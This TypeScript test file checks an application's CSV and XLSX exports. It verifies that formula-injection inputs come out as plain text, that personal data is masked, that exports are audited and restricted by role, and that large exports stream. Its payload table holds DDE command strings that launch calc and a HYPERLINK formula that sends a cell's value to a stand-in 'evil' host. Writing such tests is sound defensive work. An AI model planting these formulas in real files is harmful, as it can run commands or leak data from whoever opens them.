import { request } from 'node:http';
import { unguardFormula } from '@app/intake';
import { platformCsv } from '@app/features/records/testing';
import { fieldPlace } from '@app/field-standard';
import type { Browser } from '@app/http/testing';
import { parse } from 'csv-parse/sync';
import { ValueType, Workbook } from 'exceljs';
import { describeAttacks } from './attacks';
import { importFewRecords, MONTH, PERSON } from './support/lettered-month';

const LONG = 300_000;
const MEGABYTE = 1 << 20;
const MANY = 1_000_000;

/** What a spreadsheet would compute, open or send, by the rows of the list. */
const FORMULAS: Readonly<Record<string, readonly string[]>> = {
  F01: ['=1+1'],
  F02: ["=cmd|'/c calc'!A1"],
  F04: ["-2+3+cmd|' /C calc'!A0"],
  F05: ["@SUM(1+1)*cmd|' /C calc'!A0"],
  F06: ['\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', "'=1+1"],
  F07: ['＝1+1', '＋1', '－1', '＠SUM(1)', '+1'],
  F08: ['=HYPERLINK("http://evil/?"&A1,"点我")', '=IMPORTXML("http://evil/","//a")', '=DDE("cmd";"/c calc";"1")'],
};

interface Listed {
  readonly documentNo: string;
  readonly counterpart: string;
}

describeAttacks(
  'exports',
  {
    prepare: async ({ office }) => {
      await office.drafter.post('months', { body: { month: MONTH } });
      await importFewRecords(office);
    },
  },
  ({ attack, alike, target }) => {
    const records = `/api/v1/months/${MONTH}/records`;
    const reviewer = (): Browser => target().office.drafter.browser();
    const listed = async (who: Browser) => (await who.get(`${records}?limit=200`)).json<{ items: Listed[] }>().items;
    const rss = () => target().measured('process_resident_memory_bytes');

    async function table(who: Browser, url: string, format: 'csv' | 'xlsx'): Promise<readonly string[][]> {
      const answer = await who.get(`${url}${url.includes('?') ? '&' : '?'}format=${format}`);
      expect([url, answer.status]).toEqual([url, 200]);
      if (format === 'csv') return parse(answer.bytes, { bom: true });
      const workbook = new Workbook();
      await workbook.xlsx.load(answer.bytes as never);
      const rows: string[][] = [];
      workbook.worksheets[0]!.eachRow((row) => {
        const cells: string[] = [];
        row.eachCell({ includeEmpty: true }, (cell) => {
          // Nothing is computed, linked or fetched: a cell holds its text.
          expect([ValueType.String, ValueType.Number, ValueType.Null, ValueType.SharedString]).toContain(cell.type);
          cells.push(cell.text);
        });
        rows.push(cells);
      });
      return rows;
    }

    /** Puts a copy of the first record beside it for every text, as its number and its counterpart's name. */
    async function keep(texts: readonly string[]): Promise<void> {
      const [row] = await target().truth.query('SELECT * FROM platform_record ORDER BY seq LIMIT 1');
      const [last] = await target().truth.query('SELECT MAX(seq) AS seq FROM platform_record');
      const cells = JSON.parse(String(row!['content'])) as string[];
      for (const [i, text] of texts.entries()) {
        const own = [...cells];
        own[fieldPlace('permit', 'XK_WSH')] = text;
        own[fieldPlace('permit', 'XK_XDR_MC')] = text;
        const copy = { ...row!, seq: Number(last!['seq']) + 1 + i, content: JSON.stringify(own) };
        const columns = Object.keys(copy);
        await target().truth.query(
          `INSERT INTO platform_record (${columns.join(', ')}) VALUES (${columns.map(() => '?').join(', ')})`,
          Object.values(copy),
        );
      }
    }

    /** Comes out as text in both formats, and is the same string again for whoever takes the guard away. */
    async function comesOutAsText(texts: readonly string[]): Promise<void> {
      await keep(texts);
      const shown = (await listed(reviewer())).map(({ documentNo }) => documentNo);
      expect(shown).toEqual(expect.arrayContaining([...texts]));
      const csv = await table(reviewer(), `${records}/export`, 'csv');
      const xlsx = await table(reviewer(), `${records}/export`, 'xlsx');
      const at = csv[0]!.indexOf('决定文书号');
      for (const text of texts) {
        const guarded = csv.filter((cells) => unguardFormula(cells[at]!) === text).map((cells) => cells[at]!);
        expect([text, guarded]).toEqual([text, [`'${text}`]]);
      }
      expect(csv.flat().filter((cell) => /^\s*[=+\-@＝＋－＠\t\r\n\0]/.test(cell))).toEqual([]);
      expect(csv.slice(1).map((cells) => unguardFormula(cells[at]!))).toEqual(shown);
      // A workbook says by itself what is text: it needs no guard, and has none.
      expect(xlsx.slice(1).map((cells) => cells[at]!.replaceAll('\r\n', '\r'))).toEqual(
        shown.map((text) => text.replaceAll('\r\n', '\r')),
      );
    }

    attack('F01', () => comesOutAsText(FORMULAS['F01']!));
    attack('F02', () => comesOutAsText(FORMULAS['F02']!));
    attack('F04', () => comesOutAsText(FORMULAS['F04']!));
    attack('F05', () => comesOutAsText(FORMULAS['F05']!));
    attack('F06', () => comesOutAsText(FORMULAS['F06']!));
    attack('F07', () => comesOutAsText(FORMULAS['F07']!));
    attack('F08', () => comesOutAsText(FORMULAS['F08']!));

    alike(
      'F',
      'what a sender has typed is text in the list of corrections and in the ledger that goes back',
      async () => {
        const texts = ['=1+1', '＝1+1', '@SUM(1)', '-2+3', '\t=1+1'];
        const file = {
          name: '=cmd.csv',
          bytes: platformCsv(
            'permit',
            texts.map((unit) => ({ unit, received: '2021-08-10' })),
          ),
        };
        const { drafter } = target().office;
        const { id } = await drafter.upload(`months/${MONTH}/imports`, file, { kind: 'permit' });
        await target().whenIdle();
        for (const format of ['csv', 'xlsx'] as const) {
          const rows = await table(reviewer(), `/api/v1/months/${MONTH}/imports/${id}/problems/export`, format);
          const told = rows.slice(1).map((cells) => unguardFormula(cells[3]!));
          expect(told).toEqual(texts.map((text) => text.trim()));
          if (format === 'csv') expect(rows.flat().filter((cell) => /^[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
        }
      },
    );

    attack('F15', async () => {
      const { leader, auditor } = target().office;
      for (const who of [leader, auditor]) {
        for (const format of ['csv', 'xlsx'] as const) {
          const cells = (await table(who.browser(), `${records}/export`, format)).flat().join('\n');
          expect(cells).not.toContain(PERSON.name);
          expect(cells).not.toContain(PERSON.identity);
          expect(cells).toContain('张**');
        }
      }
      const sql = "SELECT actor, role FROM audit_entry WHERE action = 'table.exported' AND subject = ?";
      const subject = 'GET /api/v1/months/:month/records/export';
      const entries = await target().truth.query(sql, [subject]);
      for (const role of ['leader', 'auditor'])
        expect(entries.filter((entry) => entry['role'] === role)).toHaveLength(2);
      // Whoever may not have the list has not its file either.
      for (const role of ['unit-officer', 'system-administrator', 'security-administrator'] as const) {
        expect(
          (
            await target()
              .inRole(role, role === 'unit-officer' ? 'D01' : null)
              .get(`${records}/export?format=csv`)
          ).status,
        ).toBe(403);
      }
    });

    attack(
      'F14',
      async () => {
        await keep(Array.from({ length: 1 }, () => '运许〔2021〕999号'));
        await target().truth.query(
          `INSERT INTO platform_record SELECT r.assessment_id, r.seq + n.i, ${await otherColumns()}
           FROM platform_record r, (WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?) SELECT i FROM n) n
           WHERE r.seq = (SELECT MAX(seq) FROM platform_record)`,
          [MANY],
        );
        const refused = await reviewer().get(`${records}/export?format=xlsx`);
        expect([refused.status, refused.problem().code]).toEqual([422, 'export-too-large']);
        const before = await rss();
        const seen: number[] = [];
        const { rows, firstAfter, took } = await download(`${records}/export?format=csv`, async () => {
          seen.push(await rss());
        });
        expect(rows).toBeGreaterThan(MANY);
        // It is on its way long before it is whole, and does not lie in memory: more than 100 MB of text, of records of some GB.
        expect(firstAfter).toBeLessThan(took / 2);
        expect(Math.max(...seen) - before).toBeLessThan(128 * MEGABYTE);
        expect(seen.length).toBeGreaterThan(0);
      },
      LONG,
    );

    /** The columns of a record after its place, in their order. */
    async function otherColumns(): Promise<string> {
      const columns = await target().truth.query('PRAGMA table_info(platform_record)');
      const names = columns.map(({ name }) => String(name));
      expect(names.slice(0, 2)).toEqual(['assessment_id', 'seq']);
      return names
        .slice(2)
        .map((name) => `r.${name}`)
        .join(', ');
    }

    /** Reads an answer piece by piece and counts its lines, looking at the process on the way. */
    function download(
      url: string,
      look: () => Promise<void>,
    ): Promise<{ rows: number; firstAfter: number; took: number }> {
      const begun = performance.now();
      const { session } = reviewer();
      const headers = { cookie: `session=${session!.token}` };
      return new Promise((resolve, reject) => {
        const asked = request({ host: '127.0.0.1', port: target().port, path: url, headers }, (answer) => {
          let [rows, firstAfter, bytes, looks] = [0, 0, 0, Promise.resolve()];
          answer.on('data', (piece: Buffer) => {
            if (firstAfter === 0) firstAfter = performance.now() - begun;
            bytes += piece.length;
            for (const byte of piece) if (byte === 0x0a) rows++;
            if (bytes > 2 * MEGABYTE) {
              bytes = 0;
              looks = looks.then(look);
            }
          });
          answer.on('end', () => {
            const took = performance.now() - begun;
            looks.then(() => resolve({ rows, firstAfter, took }), reject);
          });
          answer.on('error', reject);
        });
        asked.on('error', reject);
        asked.end();
      });
    }

    alike('F', 'every table that leaves is on record before its first byte', async () => {
      const count = async () =>
        Number(
          (await target().truth.query("SELECT COUNT(*) AS n FROM audit_entry WHERE action = 'table.exported'"))[0]![
            'n'
          ],
        );
      const before = await count();
      const files = ['months/export', 'units/export?month=2021-08', 'work/export', `months/${MONTH}/findings/export`];
      for (const file of files)
        await table(
          file.startsWith('units') ? target().inRole('system-administrator') : reviewer(),
          `/api/v1/${file}`,
          'csv',
        );
      expect(await count()).toBe(before + files.length);
    });
  },
);
